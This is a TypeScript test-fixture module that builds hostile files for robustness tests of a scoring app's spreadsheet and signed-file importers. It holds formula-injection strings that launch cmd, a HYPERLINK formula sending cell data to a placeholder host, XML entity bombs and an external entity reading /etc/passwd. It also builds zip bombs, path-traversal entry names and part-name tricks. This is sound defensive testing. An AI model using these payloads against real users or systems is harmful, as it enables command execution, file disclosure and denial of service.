/**
 * The hostile corpus: every file built in code from the demo's real files (the Excel template, J1's signed
 * sheet, the event package, J1's enrolment) at the moment it is needed, so nothing large is ever written to
 * the repository and at most one large file sits in memory at a time.
 *
 * Each file says which importers take it (an .xlsx goes to the template and sheet importers, a signed JSON
 * file to the package and enrolment importers, garbage to all four), what is expected (refused, or for
 * formula-looking text imported as that literal text), and where a refusal is known not to name the file
 * (a gap in code this suite does not own; the test fails once the gap is closed, so that the note goes).
 */
import ExcelJS from 'exceljs';
import type { CellValue } from 'exceljs';
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import type { Event } from '../../../src/core/model.ts';
import { FIRST_DATA_ROW, type Content, type Field } from '../../../src/services/events/template/fields.ts';
import {
  ASSIGNMENT_COLUMNS,
  CATEGORY_COLUMNS,
  CONFLICT_COLUMNS,
  CRITERION_COLUMNS,
  DOCUMENT_COLUMNS,
  FIGURE_COLUMNS,
  EVENT_ROWS,
  JUROR_COLUMNS,
  MIN_RUBRIC_PAIRS,
  NOMINEE_COLUMNS,
  ROUND_COLUMNS,
  SHEETS,
  rubricFields,
} from '../../../src/services/events/template/layout.ts';
import type { UnlockedKey } from '../../../src/services/keys/key-store.ts';
import { fingerprint, publicKeyText, signCanonical } from '../../../src/services/keys/signing.ts';
import { MAX_SIGNED_FILE_BYTES } from '../../../src/services/files/file-limits.ts';
import { atTheLimits, CELLS, deflated, sheetXml, withExtraSheets, withSharedStrings } from './workbook.ts';
import { deflateStreaming, patchZip, readZip, unicodePathField, writeZip, zeros, type ZipEntry } from './zip.ts';

export type Importer = 'template' | 'sheet' | 'package' | 'enrolment';

export type Kind =
  | 'not a zip'
  | 'truncated'
  | 'corrupted'
  | 'zip bomb'
  | 'zip structure'
  | 'part names'
  | 'whole workbook'
  | 'xml entities'
  | 'million rows'
  | 'wrong types'
  | 'payload fields'
  | 'invalid utf-8'
  | 'very large'
  | 'formula injection'
  | 'path-like names';

/** Cells of the template where formula-looking text is planted, with how to find the value again in the imported event. */
export interface Planted {
  sheet: string;
  cell: string;
  read: (event: Event) => unknown;
}

export interface HostileFile {
  kind: Kind;
  /** The file name given to the importer, exactly. */
  name: string;
  what: string;
  to: Importer[];
  make: () => Promise<Uint8Array> | Uint8Array;
  /** 'refused' unless the text is to be imported literally. */
  expect?: 'refused' | 'literal';
  /** For 'literal': the value each planted cell must be imported as. */
  literal?: { planted: Planted[]; value: string; forbidden: string[] };
  /** Cells each of which must have an issue, by sheet ('wrong types', 'formula injection'). */
  issuesAt?: { sheet: string; cells: string[] } | { sheet: string; cells: string[] }[];
  /**
   * What the refusal must say, in English and Indonesian (the cause, not only that the file is bad); a
   * sheet so refused must be 'malformed', refused before its contents were read.
   */
  says?: { en: RegExp; id: RegExp };
}

export interface Sources {
  event: Event;
  /** The demo event's Excel template, filled in. */
  template: Buffer;
  /** J1's signed score sheet. */
  sheet: Buffer;
  packageText: string;
  /** J1's enrolment file. */
  enrolmentText: string;
  /** J1's key, to sign crafted sheet payloads as J1 would. */
  jurorKey: UnlockedKey;
}

const XLSX: Importer[] = ['template', 'sheet'];
const SIGNED_JSON: Importer[] = ['package', 'enrolment'];
const MiB = 1024 * 1024;

/** Deterministic bytes, so that a failure can be reproduced; `seed` keeps every file distinct. */
function seeded(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let x = (seed * 2654435761) >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

const utf8 = (text: string) => Buffer.from(text, 'utf8');
const entries = (bytes: Uint8Array): ZipEntry[] =>
  readZip(bytes).map(({ name, data }) => ({ name, data, method: data.byteLength === 0 ? 0 : 8 }));
/** A real workbook with one entry swapped for another (or added). */
const withEntry = (bytes: Uint8Array, entry: ZipEntry) => writeZip([...entries(bytes).filter((e) => e.name !== entry.name), entry]);

function throwawayKey(): UnlockedKey {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const text = publicKeyText(publicKey);
  return { privateKey, publicKey: text, fingerprint: fingerprint(text) };
}

/** A signed JSON file's envelope, changed as `change` likes, and (with `key`) signed again over the changed payload. */
function signedJson(
  text: string,
  change: (envelope: { payload: Record<string, unknown>; signature: string }) => unknown,
  key?: UnlockedKey,
): Buffer {
  const envelope = JSON.parse(text) as { payload: Record<string, unknown>; signature: string };
  const changed = change(envelope) ?? envelope;
  if (key) (changed as { signature: string }).signature = signCanonical((changed as { payload: unknown }).payload, key.privateKey);
  return utf8(`${JSON.stringify(changed, null, 2)}\n`);
}

async function editWorkbook(bytes: Uint8Array, edit: (workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  edit(workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const CARRIER = { marker: 1, publicKey: 2, signature: 3, count: 4, firstChunk: 5 } as const;

/** J1's sheet with the signed payload in sheet "Tanda tangan" replaced (and signed again with `key`, if given). */
function withPayload(src: Sources, change: (payload: Record<string, unknown>) => unknown, key?: UnlockedKey): Promise<Buffer> {
  return editWorkbook(src.sheet, (workbook) => {
    const carrier = workbook.getWorksheet('Tanda tangan')!;
    const count = carrier.getCell(CARRIER.count, 2).value as number;
    const json = Array.from({ length: count }, (_, i) => String(carrier.getCell(CARRIER.firstChunk + i, 2).value)).join('');
    const payload = JSON.parse(json) as Record<string, unknown>;
    const changed = change(payload) ?? payload;
    const text = JSON.stringify(changed);
    const parts = text.match(/[\s\S]{1,30000}/g) ?? [''];
    for (let i = 0; i < Math.max(count, parts.length); i++) carrier.getCell(CARRIER.firstChunk + i, 2).value = parts[i] ?? null;
    carrier.getCell(CARRIER.count, 2).value = parts.length;
    if (key) carrier.getCell(CARRIER.signature, 2).value = signCanonical(changed, key.privateKey);
  });
}

/** The sheet XML entry of a template sheet, by its tab name. */
const TEMPLATE_ENTRY: Record<string, string> = {
  [SHEETS.event]: 'xl/worksheets/sheet1.xml',
  [SHEETS.nominees]: 'xl/worksheets/sheet5.xml',
};
const SHEET_SECTION = 'xl/worksheets/sheet2.xml'; // J1's first section, 1-pemkab
const SHEET_CARRIER = 'xl/worksheets/sheet18.xml'; // Tanda tangan

const addBeforeSheetData = (row: string) => (xml: string) => xml.replace('</sheetData>', `${row}</sheetData>`);
const addAfterSheetData = (part: string) => (xml: string) => xml.replace('</sheetData>', `</sheetData>${part}`);
const withDoctype = (doctype: string, root: string) => (xml: string) => xml.replace(`<${root}`, `${doctype}<${root}`);

const LOL = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join(
  '',
);
const billionLaughs = (root: string) => `<!DOCTYPE ${root} [${LOL}]>`;
const externalEntity = (root: string) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;
/** A reference to the entity: a new inline-string cell in a worksheet, else the first string of the part. */
const useEntity = (entity: string) => (xml: string) =>
  xml.includes('</sheetData>')
    ? xml.replace('</sheetData>', `<row r="990"><c r="A990" t="inlineStr"><is><t>&${entity};</t></is></c></row></sheetData>`)
    : xml.replace(/<t( [^>]*)?>[^<]*<\/t>/, `<t>&${entity};</t>`);
const inlineCell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

/** A template sheet's fields in column order (sheet Acara: in row order), to put a wrong type in each. */
function templateFields(sheet: string): { field: Field<unknown>; cell: string }[] {
  const column = (i: number) => String.fromCharCode(65 + (i % 26)).padStart(i >= 26 ? 2 : 1, 'A');
  const table = (fields: Field<unknown>[]) => fields.map((field, i) => ({ field, cell: `${column(i)}${FIRST_DATA_ROW}` }));
  switch (sheet) {
    case SHEETS.event:
      return Object.values(EVENT_ROWS).map((field, i) => ({ field: field as Field<unknown>, cell: `B${FIRST_DATA_ROW + i}` }));
    case SHEETS.categories:
      return table(Object.values(CATEGORY_COLUMNS) as Field<unknown>[]);
    case SHEETS.rounds:
      return table(Object.values(ROUND_COLUMNS) as Field<unknown>[]);
    case SHEETS.criteria: {
      const rubric = Array.from({ length: MIN_RUBRIC_PAIRS }, (_, k) => rubricFields(k + 1)).flat();
      return table([...Object.values(CRITERION_COLUMNS), ...rubric] as Field<unknown>[]);
    }
    case SHEETS.nominees:
      return table(Object.values(NOMINEE_COLUMNS) as Field<unknown>[]);
    case SHEETS.jurors:
      return table(Object.values(JUROR_COLUMNS) as Field<unknown>[]);
    case SHEETS.assignments:
      return table(Object.values(ASSIGNMENT_COLUMNS) as Field<unknown>[]);
    case SHEETS.figures:
      return table(Object.values(FIGURE_COLUMNS) as Field<unknown>[]);
    case SHEETS.documents:
      return table(Object.values(DOCUMENT_COLUMNS) as Field<unknown>[]);
    default:
      return table(Object.values(CONFLICT_COLUMNS) as Field<unknown>[]);
  }
}

/**
 * A value of another type than the field takes: a boolean, a fraction, or text that is no number, date,
 * ID or choice; text fields take anything, so they get an Excel error value (#DIV/0!) and no issue.
 */
function wrongValue(field: Field<unknown>): { value: CellValue; expectIssue: boolean } {
  const candidates: Content[] = [true, 3.5, 'x y!?'];
  const wrong = candidates.find((content) => !field.parse(content).ok);
  return wrong === undefined ? { value: { error: '#DIV/0!' }, expectIssue: false } : { value: wrong, expectIssue: true };
}

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `+SUM(1)+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://contoh.invalid/?d="&A1,"klik di sini")`,
  `-2+3+cmd|' /C notepad'!A0`,
];

/** Where formula-looking text goes in the template: names, a place, reasons, a free attribute ("notes"). */
const PLANTED: Planted[] = [
  { sheet: SHEETS.event, cell: `B${FIRST_DATA_ROW + Object.keys(EVENT_ROWS).indexOf('name')}`, read: (e) => e.name },
  { sheet: SHEETS.event, cell: `B${FIRST_DATA_ROW + Object.keys(EVENT_ROWS).indexOf('place')}`, read: (e) => e.place },
  { sheet: SHEETS.categories, cell: 'B3', read: (e) => e.categories[0].name.id },
  { sheet: SHEETS.nominees, cell: 'C3', read: (e) => e.nominees[0].name },
  { sheet: SHEETS.nominees, cell: 'D3', read: (e) => e.nominees[0].region },
  { sheet: SHEETS.nominees, cell: 'F3', read: (e) => e.nominees[0].attributes.Catatan },
  { sheet: SHEETS.jurors, cell: 'C3', read: (e) => e.jurors[0].title },
  { sheet: SHEETS.jurors, cell: 'D3', read: (e) => e.jurors[0].institution },
  { sheet: SHEETS.conflicts, cell: 'C3', read: (e) => e.conflicts[0].reason },
];

function plantInTemplate(src: Sources, value: CellValue): Promise<Buffer> {
  return editWorkbook(src.template, (workbook) => {
    workbook.getWorksheet(SHEETS.nominees)!.getCell('F1').value = 'Catatan';
    for (const { sheet, cell } of PLANTED) workbook.getWorksheet(sheet)!.getCell(cell).value = value;
  });
}

/** 300 MiB of zeros deflated once (about 300 KiB), shared by the bombs that need it. */
let zeros300: Promise<{ bytes: Buffer; size: number; crc: number }> | undefined;
const bomb300 = () => (zeros300 ??= deflateStreaming(zeros(300)));

/** A sheet of `rows` real rows, `<row r="N"/>` each, deflated as it is generated. */
function millionRowSheet(rows: number) {
  function* parts(): Generator<Uint8Array> {
    yield utf8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
    );
    for (let start = 1; start <= rows; start += 10_000) {
      let chunk = '';
      for (let r = start; r < start + 10_000 && r <= rows; r++) chunk += `<row r="${r}"/>`;
      yield utf8(chunk);
    }
    yield utf8('</sheetData></worksheet>');
  }
  return deflateStreaming(parts());
}

/** Text that compresses about 40:1: long runs of zeros broken by a random byte, `mib` MiB of it. */
function compressible(mib: number, seed: number): Buffer {
  const out = Buffer.alloc(mib * MiB);
  const noise = seeded(Math.ceil(out.length / 150), seed);
  for (let i = 0; i < noise.length; i++) out[i * 150] = noise[i];
  return out;
}

export function hostileCorpus(src: Sources): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (kind: Kind, to: Importer[], list: Omit<HostileFile, 'kind' | 'to'>[]) => {
    for (const file of list) files.push({ kind, to, ...file });
  };
  const sheet = src.sheet;
  const template = src.template;
  const cut = (bytes: Uint8Array, length: number) => Buffer.from(bytes.subarray(0, length));

  // --- Not a zip: to every importer, the JSON ones included.
  add(
    'not a zip',
    [...XLSX, ...SIGNED_JSON],
    [
      { name: 'kosong.xlsx', what: 'empty file (0 bytes)', make: () => new Uint8Array(0) },
      { name: 'acak-16.xlsx', what: 'random bytes, 16', make: () => seeded(16, 1) },
      { name: 'acak-4k.xlsx', what: 'random bytes, 4 KiB', make: () => seeded(4096, 2) },
      { name: 'acak-1m.xlsx', what: 'random bytes, 1 MiB', make: () => seeded(MiB, 3) },
      {
        name: 'undangan.pdf',
        what: 'a PDF document',
        make: () =>
          utf8('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
      },
      { name: 'catatan.txt', what: 'a text file', make: () => utf8('Catatan rapat juri\nPaniradia: hadir semua.\n') },
      { name: 'nilai.csv', what: 'a CSV export', make: () => utf8('ID;Nama;Nilai\nukm-01;Kopdit TLM;4\n') },
      {
        name: 'lembar-lama.xls',
        what: 'an Excel 97-2003 (OLE2) header',
        make: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), seeded(2048, 4)]),
      },
      {
        name: 'foto.png',
        what: 'a PNG header',
        make: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), seeded(512, 5)]),
      },
      {
        name: 'halaman.html',
        what: 'an HTML page',
        make: () => utf8('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
      },
      {
        name: 'utf16.txt',
        what: 'UTF-16 text with a byte-order mark',
        make: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Nilai juri', 'utf16le')]),
      },
      { name: 'pk.xlsx', what: 'just "PK"', make: () => utf8('PK') },
      {
        name: 'pk-lalu-acak.xlsx',
        what: 'a local-header signature, then random bytes',
        make: () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), seeded(300, 6)]),
      },
      {
        name: 'pdf-berisi-zip.pdf',
        what: 'a PDF header with a real sheet appended (polyglot)',
        make: () => Buffer.concat([utf8('%PDF-1.7\n%%EOF\n'), sheet]),
      },
      { name: 'sampah-lalu-lembar.xlsx', what: 'junk bytes, then a real sheet', make: () => Buffer.concat([seeded(100, 7), sheet]) },
    ],
  );

  // --- Truncated: a real sheet and template cut short; a package and an enrolment cut short.
  const sheetCuts: [string, number][] = [
    ['cut to 22 bytes', 22],
    ['cut to 100 bytes', 100],
    ['cut to 1,000 bytes', 1000],
    ['cut to 10%', Math.floor(sheet.length * 0.1)],
    ['cut to 50%', Math.floor(sheet.length * 0.5)],
    ['cut to 90%', Math.floor(sheet.length * 0.9)],
    ['without its last 23 bytes', sheet.length - 23],
    ['without its end record', sheet.length - 22],
    ['without its last 10 bytes', sheet.length - 10],
    ['without its last byte', sheet.length - 1],
  ];
  add('truncated', XLSX, [
    ...sheetCuts.map(([what, length], i) => ({
      name: `lembar-J1-terpotong-${i + 1}.xlsx`,
      what: `J1's sheet ${what}`,
      make: () => cut(sheet, length),
    })),
    ...[30, Math.floor(template.length / 2), template.length - 1].map((length, i) => ({
      name: `templat-terpotong-${i + 1}.xlsx`,
      what: `the template cut to ${length} of ${template.length} bytes`,
      make: () => cut(template, length),
    })),
  ]);
  const packageBytes = utf8(src.packageText);
  const enrolmentBytes = utf8(src.enrolmentText);
  add('truncated', SIGNED_JSON, [
    ...[1, Math.floor(packageBytes.length / 2), packageBytes.length - 2].map((length, i) => ({
      name: `paket-terpotong-${i + 1}.timbang`,
      what: `the package cut to ${length} bytes`,
      make: () => cut(packageBytes, length),
    })),
    ...[Math.floor(enrolmentBytes.length / 2), enrolmentBytes.length - 2].map((length, i) => ({
      name: `pendaftaran-terpotong-${i + 1}.timbang-enrol`,
      what: `the enrolment cut to ${length} bytes`,
      make: () => cut(enrolmentBytes, length),
    })),
  ]);

  // --- Corrupted in transit: a flipped byte in the compressed data, the directory, the end record.
  const flip = (bytes: Uint8Array, at: number) => {
    const copy = Buffer.from(bytes);
    copy[at] ^= 0x5a;
    return copy;
  };
  add('corrupted', XLSX, [
    {
      // In the middle of a section's deflated bytes (not just anywhere: a flip in a timestamp changes nothing that matters).
      name: 'lembar-J1-bit-rusak.xlsx',
      what: 'a byte flipped inside a compressed sheet',
      make: () => {
        const { stored } = readZip(sheet).find((e) => e.name === SHEET_SECTION)!;
        return flip(sheet, stored.start + Math.floor(stored.length / 2));
      },
    },
    {
      name: 'lembar-J1-direktori-rusak.xlsx',
      what: "a byte flipped in the central directory's first signature",
      make: () => flip(sheet, sheet.readUInt32LE(sheet.length - 22 + 16)),
    },
    {
      name: 'lembar-J1-akhir-rusak.xlsx',
      what: "a byte flipped in the end record's directory offset",
      make: () => flip(sheet, sheet.length - 22 + 17),
    },
  ]);

  // --- Zip bombs: declared sizes, lying sizes, ratio, total, overlapping entries.
  add('zip bomb', XLSX, [
    {
      name: 'bom-300mib-lembar.xlsx',
      what: 'J1 sheet whose 1-pemkab is 300 MiB of zeros (honest sizes)',
      make: async () => withEntry(sheet, { name: SHEET_SECTION, raw: await bomb300() }),
    },
    {
      name: 'bom-300mib-templat.xlsx',
      what: 'template whose Nominasi is 300 MiB of zeros (honest sizes)',
      make: async () => withEntry(template, { name: TEMPLATE_ENTRY.Nominasi, raw: await bomb300() }),
    },
    {
      name: 'bom-berbohong-lembar.xlsx',
      what: '300 MiB of zeros declared as 5,000 bytes (lying sizes)',
      make: async () => withEntry(sheet, { name: SHEET_SECTION, raw: await bomb300(), declare: { size: 5000 } }),
    },
    {
      name: 'bom-berbohong-templat.xlsx',
      what: '300 MiB of zeros declared as 5,000 bytes in the template',
      make: async () => withEntry(template, { name: TEMPLATE_ENTRY.Nominasi, raw: await bomb300(), declare: { size: 5000 } }),
    },
    {
      name: 'bom-4gib.xlsx',
      what: 'an entry forged to declare 4 GiB',
      make: () => withEntry(sheet, { name: SHEET_SECTION, data: utf8('<worksheet/>'), declare: { size: 0xfffffffe } }),
    },
    {
      name: 'bom-rasio.xlsx',
      what: '20 MiB of zeros in 20 KiB (ratio about 1000:1)',
      make: async () => withEntry(sheet, { name: SHEET_SECTION, raw: await deflateStreaming(zeros(20)) }),
    },
    {
      name: 'bom-total.xlsx',
      what: 'three 30 MiB entries at 40:1 (90 MiB in all)',
      make: () => {
        const data = compressible(30, 8);
        const raw = { bytes: deflateRawSync(data), size: data.length, crc: crc32(data) };
        return writeZip([...entries(sheet), ...[1, 2, 3].map((i) => ({ name: `xl/media/lampiran${i}.bin`, raw }))]);
      },
    },
    {
      name: 'bom-tumpang-tindih.xlsx',
      what: "200 directory records sharing one entry's data",
      make: () =>
        writeZip([
          ...entries(sheet),
          ...Array.from({ length: 200 }, (_, i) => ({ name: `xl/media/salinan${i}.xml`, aliasOf: SHEET_SECTION })),
        ]),
    },
  ]);

  // --- Archive structure a reader must not trust.
  add('zip structure', XLSX, [
    {
      name: 'banyak-bagian.xlsx',
      what: '1,500 tiny entries',
      make: () => writeZip(Array.from({ length: 1500 }, (_, i) => ({ name: `xl/x/${i}.xml`, data: utf8('<x/>'), method: 0 }))),
    },
    {
      name: 'jumlah-palsu.xlsx',
      what: 'end record declaring 60,000 entries',
      make: () => writeZip(entries(sheet), { eocd: { entries: 60_000 } }),
    },
    { name: 'zip64.xlsx', what: 'a ZIP64 locator before the end record', make: () => writeZip(entries(sheet), { zip64Locator: true }) },
    {
      name: 'zip64-ukuran.xlsx',
      what: 'an entry with ZIP64 size markers',
      make: () =>
        withEntry(sheet, { name: SHEET_SECTION, data: utf8('<worksheet/>'), declare: { size: 0xffffffff, compressedSize: 0xffffffff } }),
    },
    { name: 'terbagi.xlsx', what: 'a split archive (disk 1)', make: () => writeZip(entries(sheet), { eocd: { disk: 1 } }) },
    {
      name: 'terenkripsi.xlsx',
      what: 'an entry flagged as encrypted',
      make: () => withEntry(sheet, { name: SHEET_SECTION, data: utf8('<worksheet/>'), declare: { flags: 0x0801 } }),
    },
    {
      name: 'metode-aneh.xlsx',
      what: 'an entry compressed with method 12 (bzip2)',
      make: () => withEntry(sheet, { name: SHEET_SECTION, data: utf8('<worksheet/>'), method: 12 }),
    },
    { name: 'zip-kosong.xlsx', what: 'an empty zip (end record only)', make: () => writeZip([]) },
    {
      name: 'nama-absolut.xlsx',
      what: 'an entry named /etc/passwd',
      make: () => withEntry(sheet, { name: '/etc/passwd', data: utf8('root:x:0:0') }),
    },
    {
      name: 'nama-naik.xlsx',
      what: 'an entry named ../../evil.xml',
      make: () => withEntry(sheet, { name: '../../evil.xml', data: utf8('<x/>') }),
    },
    {
      name: 'nama-windows.xlsx',
      what: 'an entry named C:\\Windows\\evil.xml',
      make: () => withEntry(sheet, { name: 'C:\\Windows\\evil.xml', data: utf8('<x/>') }),
    },
    {
      name: 'nama-nul.xlsx',
      what: 'an entry name with NUL',
      make: () => withEntry(sheet, { name: 'xl/worksheets/sheet2.xml\u0000.png', data: utf8('<x/>') }),
    },
    {
      name: 'akhir-palsu-di-komentar.xlsx',
      what: 'a second end record inside the archive comment (JSZip would take it)',
      make: () => {
        const fake = writeZip(entries(sheet)).subarray(-22); // an end record pointing at the same directory
        return writeZip(entries(sheet), { comment: Buffer.from(fake) });
      },
    },
    {
      name: 'jumlah-kurang.xlsx',
      what: 'end record counting 5 entries of 33 (JSZip reads all 33)',
      make: () => writeZip(entries(sheet), { eocd: { entries: 5 } }),
    },
    {
      name: 'nama-unicode-kedua.xlsx',
      what: 'an image entry whose Info-ZIP Unicode Path names it xl/worksheets/sheet19.xml, holding <col max="100000000">',
      make: () =>
        writeZip([
          ...entries(sheet),
          {
            name: 'xl/media/image9.png',
            declare: { flags: 0 },
            centralExtra: unicodePathField('xl/media/image9.png', 'xl/worksheets/sheet19.xml'),
            data: utf8('<worksheet><cols><col min="1" max="100000000"/></cols><sheetData/></worksheet>'),
          },
        ]),
    },
    {
      name: 'nama-ganda.xlsx',
      what: 'two entries named xl/worksheets/sheet2.xml, the second with other marks',
      make: () =>
        writeZip([
          ...entries(sheet),
          {
            name: SHEET_SECTION,
            data: utf8(
              readZip(sheet)
                .find((e) => e.name === SHEET_SECTION)!
                .data.toString('utf8')
                .replace(/<v>4<\/v>/g, '<v>5</v>'),
            ),
          },
        ]),
    },
  ]);

  // --- Two entries that name one part once names are read as Office readers read them (letter case, "\" for
  // "/", "./", "..", percent-encoding): J1's first section again, with other marks, under another spelling.
  // Excel and LibreOffice would show one and exceljs the other, so a sheet could verify while people see
  // other marks. Each refused before anything is inflated, naming both entries.
  const otherMarks = utf8(
    readZip(sheet)
      .find((e) => e.name === SHEET_SECTION)!
      .data.toString('utf8')
      .replace(/<v>4<\/v>/g, '<v>5</v>'),
  );
  const twin = (name: string, first = false): Buffer => {
    const crafted: ZipEntry = { name, data: otherMarks };
    return writeZip(first ? [crafted, ...entries(sheet)] : [...entries(sheet), crafted]);
  };
  const samePart = (crafted: string) => {
    const quoted = (name: string) => `'${name}'`.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    return {
      en: new RegExp(`entries ${quoted(SHEET_SECTION)} and ${quoted(crafted)}|entries ${quoted(crafted)} and ${quoted(SHEET_SECTION)}`),
      id: new RegExp(
        `bagian (${quoted(SHEET_SECTION)}|${quoted(crafted)}) dan (${quoted(SHEET_SECTION)}|${quoted(crafted)}), yang bagi Excel dan LibreOffice adalah bagian yang sama`,
      ),
    };
  };
  const twins: [file: string, entry: string, what: string, first?: boolean][] = [
    ['nama-titik-garis.xlsx', `./${SHEET_SECTION}`, 'a second 1-pemkab named ./xl/worksheets/sheet2.xml'],
    ['nama-titik-garis-dulu.xlsx', `./${SHEET_SECTION}`, 'the same, the crafted entry first in the archive', true],
    ['nama-garis-miring-terbalik.xlsx', SHEET_SECTION.replace(/\//g, '\\'), 'a second 1-pemkab named xl\\worksheets\\sheet2.xml'],
    ['nama-huruf-besar.xlsx', 'xl/worksheets/Sheet2.xml', 'a second 1-pemkab named xl/worksheets/Sheet2.xml'],
    ['nama-kapital-semua.xlsx', SHEET_SECTION.toUpperCase(), 'a second 1-pemkab named XL/WORKSHEETS/SHEET2.XML'],
    ['nama-naik-turun.xlsx', `a/../${SHEET_SECTION}`, 'a second 1-pemkab named a/../xl/worksheets/sheet2.xml'],
    [
      'nama-naik-turun-dulu.xlsx',
      `xl/media/../worksheets/../worksheets/sheet2.xml`,
      'xl/media/../worksheets/../worksheets/sheet2.xml, first in the archive',
      true,
    ],
    ['nama-garis-depan.xlsx', `/${SHEET_SECTION}`, 'a second 1-pemkab named /xl/worksheets/sheet2.xml (exceljs drops the leading slash)'],
    ['nama-persen.xlsx', 'xl/worksheets/sheet%32.xml', 'a second 1-pemkab named xl/worksheets/sheet%32.xml (percent-encoded "2")'],
    ['nama-garis-ganda.xlsx', 'xl//worksheets/sheet2.xml', 'a second 1-pemkab named xl//worksheets/sheet2.xml'],
    ['nama-campuran.xlsx', '.\\XL\\Worksheets\\.\\sheet%32.XML', 'a second 1-pemkab named .\\XL\\Worksheets\\.\\sheet%32.XML'],
  ];
  add(
    'part names',
    XLSX,
    twins.map(([name, entry, what, first]) => ({ name, what, says: samePart(entry), make: () => twin(entry, first) })),
  );

  // --- The whole workbook: many parts each under a sheet's limits, together far beyond what one import may
  // cost. Written as XML directly: exceljs would take minutes and gigabytes to write them.
  const says = (en: RegExp, id: RegExp) => ({ en, id });
  const manySheets = (base: Uint8Array, count: number, rows: number, columns: number, cell: keyof typeof CELLS) =>
    withExtraSheets(base, count, deflated(sheetXml(rows, columns, CELLS[cell])));
  const emptySheet = (body: string) =>
    deflated(
      utf8(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${body}</worksheet>`,
      ),
    );
  const definedName = (bytes: Uint8Array, sheetName: string, ref: string) =>
    patchZip(bytes, {
      'xl/workbook.xml': (x) => {
        const name = `<definedName name="semua">'${sheetName}'!${ref}</definedName>`;
        return x.includes('<definedNames>')
          ? x.replace('<definedNames>', `<definedNames>${name}`)
          : x.replace('</sheets>', `</sheets><definedNames>${name}</definedNames>`);
      },
    });
  add('whole workbook', XLSX, [
    {
      name: 'lembar-2,8-juta-sel.xlsx',
      what: 'J1 sheet plus 7 sheets of 20,000 rows × 20 number cells (2.8 million cells, 62 MiB of XML), as in issue 14',
      says: says(/XML parts declare more than 16 MiB/, /bagian-bagian XML-nya menyatakan lebih dari 16 MiB/),
      make: () => manySheets(sheet, 7, 20_000, 20, 'number'),
    },
    {
      name: 'lembar-banyak-sheet-sel.xlsx',
      what: "J1 sheet plus 4 sheets of 7,000 rows × 20 formatted cells, each under a sheet's 150,000 (560,000 in all)",
      says: says(
        /its sheets together span [\d,]+ cells \(up to sheet Tambahan 2/,
        /sheet-sheetnya bersama-sama mencakup [\d.]+ sel \(sampai sheet Tambahan 2/,
      ),
      make: () => manySheets(sheet, 4, 7_000, 20, 'styled'),
    },
    {
      name: 'templat-banyak-sheet-sel.xlsx',
      what: 'the template plus 4 sheets of 7,000 rows × 20 number cells (elements: 294,000 per sheet)',
      says: says(/holds more than 350,000 XML elements/, /berisi lebih dari 350\.000 elemen XML/),
      make: () => manySheets(template, 4, 7_000, 20, 'number'),
    },
    {
      name: 'lembar-banyak-sheet-baris.xlsx',
      what: 'J1 sheet plus 10 sheets of 45,000 empty rows each (450,000 rows)',
      says: says(/its sheets together hold [\d,]+ rows/, /sheet-sheetnya bersama-sama berisi [\d.]+ baris/),
      make: () =>
        withExtraSheets(
          sheet,
          10,
          emptySheet(`<sheetData>${Array.from({ length: 45_000 }, (_, i) => `<row r="${i + 1}"/>`).join('')}</sheetData>`),
        ),
    },
    {
      name: 'lembar-banyak-sheet-kolom.xlsx',
      what: 'J1 sheet plus 40 sheets formatting all 16,384 columns',
      says: says(/its sheets together use or format [\d,]+ columns/, /sheet-sheetnya bersama-sama memakai atau memformat [\d.]+ kolom/),
      make: () => withExtraSheets(sheet, 40, emptySheet('<cols><col min="1" max="16384" width="9" customWidth="1"/></cols><sheetData/>')),
    },
    {
      name: 'templat-banyak-sheet-merge.xlsx',
      what: 'the template plus 30 sheets each merging A1:O1000 (15,000 cells)',
      says: says(/merges [\d,]+ cells \(up to sheet/, /menggabungkan \(merge\) [\d.]+ sel \(sampai sheet/),
      make: () => withExtraSheets(template, 30, emptySheet('<sheetData/><mergeCells count="1"><mergeCell ref="A1:O1000"/></mergeCells>')),
    },
    {
      name: 'lembar-nama-seluruh-sheet.xlsx',
      what: 'a defined name over Sampul!$A$1:$XFD$1048576 (exceljs lists every cell: the process ran out of memory)',
      says: says(
        /defined names \(entry 'xl\/workbook\.xml'\) cover 17,179,869,184 cells/,
        /nama yang didefinisikan \(defined names\) di bagian 'xl\/workbook\.xml' mencakup 17\.179\.869\.184 sel/,
      ),
      make: () => definedName(sheet, 'Sampul', '$A$1:$XFD$1048576'),
    },
    {
      name: 'templat-nama-400rb-sel.xlsx',
      what: 'a defined name over Nominasi!$A$1:$T$20000 (400,000 cells)',
      says: says(/defined names .* cover 400,000 cells/, /nama yang didefinisikan .* mencakup 400\.000 sel/),
